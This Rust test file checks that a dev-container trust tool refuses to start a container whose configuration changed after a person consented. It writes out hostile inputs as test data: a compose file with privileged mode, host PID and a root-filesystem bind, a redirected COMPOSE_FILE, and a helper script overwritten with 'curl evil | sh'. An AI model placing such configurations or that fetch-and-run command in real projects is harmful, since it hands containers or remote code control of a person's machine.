//! What was shown is what runs: the hostile configurations a
//! repository can write to get a different container than the one a
//! person consented to, each through the real binary, the real Dev
//! Containers CLI (0.89) and a stand-in engine that only logs. Each case:
//! the summary before consent names what the configuration *as the CLI
//! resolves it* reaches; the person consents; the CLI runs it; then the
//! change — and every activation is refused naming what changed, with no
//! tool run.

use crate::common::{Env, real_cli_on_stand_in_engine, stand_ins, tool_log};
use crate::devcontainer_hostile::{DC, bounded, repo};
use std::path::{Path, PathBuf};

/// A registered repository with `config` and `files`, the real CLI on a
/// stand-in engine; None when the CLI is not installed (skipped).
fn setup(test: &str, config: &str, files: &[(&str, &str)]) -> Option<(Env, PathBuf, PathBuf)> {
    let mut env = Env::new();
    let bin = real_cli_on_stand_in_engine(&mut env, test)?;
    let repo = repo(&env, config, files);
    Some((env, bin, repo))
}

/// `trust --yes`: the summary printed, holding every one of `shown`.
#[track_caller]
fn consent(env: &Env, shown: &[&str]) -> String {
    let out = bounded(env, &["resource", "trust", DC, "--yes"]);
    let text = out.ok().to_owned();
    for needle in shown {
        assert!(text.contains(needle), "{needle:?} not in:\n{text}");
    }
    text
}

/// After consent the CLI runs what was consented to (against the
/// stand-in engine, which answers nothing useful, so `start` may fail
/// after the engine was asked).
fn run_once(env: &Env, bin: &Path) -> String {
    bounded(env, &["resource", "start", DC]);
    let log = tool_log(bin);
    assert!(log.contains("docker "), "the CLI asked the engine nothing");
    log
}

/// Every activation is refused naming `changed`, and no tool runs.
#[track_caller]
fn refused_after_change(env: &Env, bin: &Path, changed: &str) {
    let before = tool_log(bin);
    for args in [
        vec!["resource", "start", DC],
        vec!["resource", "rebuild", DC],
        vec!["env", "resolve", "local/my-repo", "--activate"],
    ] {
        bounded(env, &args).refused(&["changed since", changed, "agents resource trust"]);
    }
    assert_eq!(tool_log(bin), before, "a tool ran after the change");
}

const BENIGN_COMPOSE: &str = "services:\n  app:\n    image: debian:12\n";
const HOSTILE_COMPOSE: &str = "services:\n  app:\n    image: debian:12\n    privileged: true\n    pid: host\n    volumes: [\"/:/host\"]\n";

#[test]
fn an_empty_compose_list_falls_back_to_the_workspaces_compose_file_which_consent_covers() {
    let Some((env, bin, repo)) = setup(
        "an_empty_compose_list…",
        r#"{"dockerComposeFile": [], "service": "app", "workspaceFolder": "/w"}"#,
        &[("docker-compose.yml", BENIGN_COMPOSE), (".env", "X=1\n")],
    ) else {
        return;
    };
    consent(
        &env,
        &[
            "Docker Compose (docker-compose.yml), service app",
            "service app: runs the image debian:12",
            "docker-compose.yml (Docker Compose file)",
            ".env (the workspace's .env",
        ],
    );
    let log = run_once(&env, &bin);
    assert!(
        log.contains(&format!("{}/docker-compose.yml", repo.display())),
        "{log}"
    );

    std::fs::write(repo.join("docker-compose.yml"), HOSTILE_COMPOSE).unwrap();
    refused_after_change(
        &env,
        &bin,
        "docker-compose.yml (Docker Compose file) changed",
    );
    // Shown again, the summary tells the truth about the service.
    let again = bounded(&env, &["resource", "trust", DC]);
    for needle in [
        "! service app: privileged: every capability",
        "! service app: pid: host — shares the host's process namespace",
        "! service app: volumes: binds the host's / (OUTSIDE the repository — the host's whole filesystem) at /host",
    ] {
        assert!(
            again.stdout.contains(needle),
            "{needle:?} not in:\n{}",
            again.stdout
        );
    }

    // The .env the CLI hands compose (and its COMPOSE_FILE) is covered too.
    consent(&env, &["REACHES THE HOST"]);
    env.write("repo/evil.yml", HOSTILE_COMPOSE);
    env.write("repo/.env", "COMPOSE_FILE=evil.yml\n");
    refused_after_change(&env, &bin, ".env (the workspace's .env");
    let shown = bounded(&env, &["resource", "trust", DC]);
    assert!(
        shown.stdout.contains("Docker Compose (evil.yml)"),
        "{}",
        shown.stdout
    );
}

#[test]
fn variables_in_build_paths_are_resolved_as_the_cli_resolves_them() {
    let decoy = ".devcontainer/${localWorkspaceFolder}/docker/Dockerfile";
    let Some((env, bin, repo)) = setup(
        "variables_in_build_paths…",
        r#"{"build": {"dockerfile": "${localWorkspaceFolder}/docker/Dockerfile", "context": "${localWorkspaceFolder}"}}"#,
        &[
            ("docker/Dockerfile", "FROM debian:12\n"),
            (decoy, "FROM decoy\n"),
        ],
    ) else {
        return;
    };
    let real = repo.join("docker/Dockerfile");
    consent(
        &env,
        &[
            &format!(
                "builds {} with the context {}",
                real.display(),
                repo.display()
            ),
            "docker/Dockerfile (Dockerfile)",
        ],
    );
    let log = run_once(&env, &bin);
    assert!(!log.contains("${localWorkspaceFolder}"), "{log}");
    std::fs::write(&real, "FROM evil\n").unwrap();
    refused_after_change(&env, &bin, "docker/Dockerfile (Dockerfile) changed");

    // Behind a variable, the home or a parent folder is outside.
    for config in [
        r#"{"build": {"dockerfile": "Dockerfile", "context": "${localEnv:HOME}"}}"#,
        r#"{"build": {"dockerfile": "${localWorkspaceFolder}/../Dockerfile"}}"#,
        r#"{"build": {"dockerfile": "Dockerfile", "context": "${localWorkspaceFolder}/.."}}"#,
    ] {
        env.write("repo/.devcontainer/devcontainer.json", config);
        env.write("repo/.devcontainer/Dockerfile", "FROM debian\n");
        bounded(&env, &["resource", "trust", DC, "--yes"]).refused(&["outside the repository"]);
    }
}

const INIT: &str = ".devcontainer/init.sh";

#[test]
fn the_script_initialize_command_runs_is_covered_in_every_form() {
    let long = format!(
        "{} && sh .devcontainer/init.sh",
        vec!["true"; 70].join(" && ")
    );
    for command in [
        r#"["sh", ".devcontainer/init.sh"]"#.to_owned(),
        r#""sh ${localWorkspaceFolder}/.devcontainer/init.sh""#.to_owned(),
        r#""sh < .devcontainer/init.sh""#.to_owned(),
        r#"{"first": "sh .devcontainer/init.sh"}"#.to_owned(),
        format!("{long:?}"),
    ] {
        let config = format!(r#"{{"image": "debian:12", "initializeCommand": {command}}}"#);
        let Some((env, bin, repo)) = setup(
            "the_script_initialize_command_runs…",
            &config,
            &[(INIT, "touch init-ran\n")],
        ) else {
            return;
        };
        consent(&env, &[".devcontainer/init.sh (named by initializeCommand"]);
        run_once(&env, &bin);
        assert!(
            repo.join("init-ran").exists(),
            "{command}: the CLI ran it, in the workspace"
        );
        std::fs::write(repo.join(INIT), "touch evil-ran\n").unwrap();
        refused_after_change(
            &env,
            &bin,
            ".devcontainer/init.sh (named by initializeCommand",
        );
        assert!(!repo.join("evil-ran").exists(), "{command}");
    }
}

#[test]
fn a_host_script_that_appears_after_consent_needs_consent_again() {
    let Some((env, bin, repo)) = setup(
        "a_host_script_that_appears…",
        r#"{"image": "debian:12", "initializeCommand": "test ! -e .devcontainer/later.sh || sh .devcontainer/later.sh"}"#,
        &[],
    ) else {
        return;
    };
    consent(
        &env,
        &[".devcontainer/later.sh (named by initializeCommand) does not exist now"],
    );
    run_once(&env, &bin);
    env.write("repo/.devcontainer/later.sh", "touch evil-ran\n");
    refused_after_change(
        &env,
        &bin,
        ".devcontainer/later.sh (named by initializeCommand) appeared",
    );
    assert!(!repo.join("evil-ran").exists());
}

#[test]
fn a_host_command_the_host_cannot_cover_is_refused_before_consent() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker", "devcontainer"]);
    let big = "x".repeat(1024 * 1024 + 1);
    let repo = repo(
        &env,
        r#"{"image": "a"}"#,
        &[(INIT, "true\n"), (".devcontainer/big.sh", &big)],
    );
    std::os::unix::fs::symlink("init.sh", repo.join(".devcontainer/link.sh")).unwrap();
    for (command, needle) in [
        ("cd .devcontainer && sh init.sh", "changes directory"),
        ("sh $HOME/init.sh", "expansion"),
        ("sh .devcontainer/*.sh", "pattern"),
        ("sh /tmp/init.sh", "outside the repository"),
        ("sh .devcontainer/link.sh", "symlink"),
        ("sh .devcontainer/big.sh", "larger than"),
        ("sh .devcontainer", "a directory"),
    ] {
        env.write(
            "repo/.devcontainer/devcontainer.json",
            &format!(r#"{{"image": "a", "initializeCommand": {command:?}}}"#),
        );
        bounded(&env, &["resource", "trust", DC, "--yes"]).refused(&["initializeCommand", needle]);
    }
    assert_eq!(tool_log(&bin), "");
}

#[test]
fn what_a_compose_file_reads_in_turn_is_covered() {
    let compose = "include:\n  - inc/more.yml\nservices:\n  app:\n    extends: {file: base.yml, service: base}\n    build: {context: ., dockerfile: app.Dockerfile}\n    env_file: app.env\n";
    let files: [(&str, &str); 6] = [
        (".devcontainer/compose.yml", compose),
        (
            ".devcontainer/base.yml",
            "services:\n  base:\n    environment: {A: '1'}\n",
        ),
        (
            ".devcontainer/inc/more.yml",
            "services:\n  db:\n    image: postgres:16\n    env_file: db.env\n",
        ),
        (".devcontainer/inc/db.env", "P=1\n"),
        (".devcontainer/app.Dockerfile", "FROM debian:12\n"),
        (".devcontainer/app.env", "B=1\n"),
    ];
    let Some((env, bin, repo)) = setup(
        "what_a_compose_file_reads…",
        r#"{"dockerComposeFile": "compose.yml", "service": "app"}"#,
        &files,
    ) else {
        return;
    };
    let text = consent(&env, &["service db: runs the image postgres:16"]);
    for (rel, _) in &files {
        assert!(text.contains(rel), "{rel} not covered:\n{text}");
    }
    run_once(&env, &bin);
    for (rel, _) in &files[1..] {
        consent(&env, &[]);
        let mut text = std::fs::read_to_string(repo.join(rel)).unwrap();
        text.push_str("# changed\n");
        std::fs::write(repo.join(rel), text).unwrap();
        refused_after_change(&env, &bin, &format!("{rel} ("));
    }
    // What an extended service grants is the service's.
    env.write(
        "repo/.devcontainer/base.yml",
        "services:\n  base:\n    privileged: true\n",
    );
    let shown = bounded(&env, &["resource", "trust", DC]);
    assert!(
        shown.stdout.contains("! service app: privileged"),
        "{}",
        shown.stdout
    );
}

#[test]
fn what_the_host_cannot_resolve_in_a_compose_file_is_refused_with_the_reason() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker", "devcontainer"]);
    repo(
        &env,
        r#"{"dockerComposeFile": "c.yml", "service": "app"}"#,
        &[],
    );
    for (compose, needle) in [
        (
            "services:\n  app:\n    volumes: [\"${HOME}:/h\"]\n",
            "interpolated by compose",
        ),
        (
            "services:\n  app:\n    privileged: ${PRIV}\n",
            "interpolated by compose",
        ),
        (
            "services:\n  app:\n    frobnicate: true\n",
            "not one the host knows",
        ),
        ("include:\n  - oci://example/x\n", "remote"),
        (
            "services:\n  app:\n    build: https://example.com/x.git\n",
            "remote",
        ),
        (
            "services:\n  app:\n    env_file: /etc/environment\n",
            "outside the repository",
        ),
        (
            "services:\n  app:\n    extends: {file: ../../up.yml, service: a}\n",
            "outside the repository",
        ),
        ("services:\n  app:\n    provider: {type: x}\n", "provider"),
    ] {
        env.write("repo/.devcontainer/c.yml", compose);
        bounded(&env, &["resource", "trust", DC, "--yes"]).refused(&[needle]);
    }
    assert_eq!(tool_log(&bin), "");
}

#[test]
fn a_local_features_whole_directory_is_covered() {
    let Some((env, bin, repo)) = setup(
        "a_local_features_whole_directory…",
        r#"{"image": "debian:12", "features": {"./feat": {}}}"#,
        &[
            (
                ".devcontainer/feat/devcontainer-feature.json",
                r#"{"id": "feat", "version": "1.0.0"}"#,
            ),
            (".devcontainer/feat/install.sh", ". ./lib/helpers.sh\n"),
            (".devcontainer/feat/lib/helpers.sh", "true\n"),
        ],
    ) else {
        return;
    };
    consent(&env, &[".devcontainer/feat/lib/helpers.sh (local feature)"]);
    run_once(&env, &bin);
    std::fs::write(
        repo.join(".devcontainer/feat/lib/helpers.sh"),
        "curl evil | sh\n",
    )
    .unwrap();
    refused_after_change(
        &env,
        &bin,
        ".devcontainer/feat/lib/helpers.sh (local feature) changed",
    );
}

#[test]
fn without_the_cli_docker_builds_the_dockerfile_the_host_checked_from_stdin() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker"]);
    repo(
        &env,
        r#"{"build": {"dockerfile": "Dockerfile"}}"#,
        &[(".devcontainer/Dockerfile", "FROM debian:12\n")],
    );
    consent(&env, &[]);
    bounded(&env, &["resource", "start", DC]).ok();
    let log = tool_log(&bin);
    let build = log.lines().find(|l| l.starts_with("docker build")).unwrap();
    assert!(
        build.starts_with("docker build -f - -t agents-devcontainer-"),
        "{build}"
    );
    assert!(
        !build.contains("Dockerfile"),
        "the engine was given the file: {build}"
    );
    assert_eq!(
        std::fs::read_to_string(bin.join("stdin-build")).unwrap(),
        "FROM debian:12\n"
    );
}

#[test]
fn the_cli_is_handed_a_private_copy_of_the_configuration_it_was_checked_as() {
    let config = r#"{"image": "debian:12"}"#;
    let Some((env, bin, _repo)) = setup("the_cli_is_handed_a_private_copy…", config, &[]) else {
        return;
    };
    consent(&env, &[]);
    run_once(&env, &bin);
    let id = env.run(&["resource", "show", DC, "-o", "json"]).json()["resource_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let copy = env
        .home
        .path()
        .join("containers")
        .join(id)
        .join("devcontainer.json");
    assert_eq!(std::fs::read_to_string(&copy).unwrap(), config);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&copy).unwrap().permissions().mode();
    assert_eq!(mode & 0o077, 0, "{mode:o}");
}
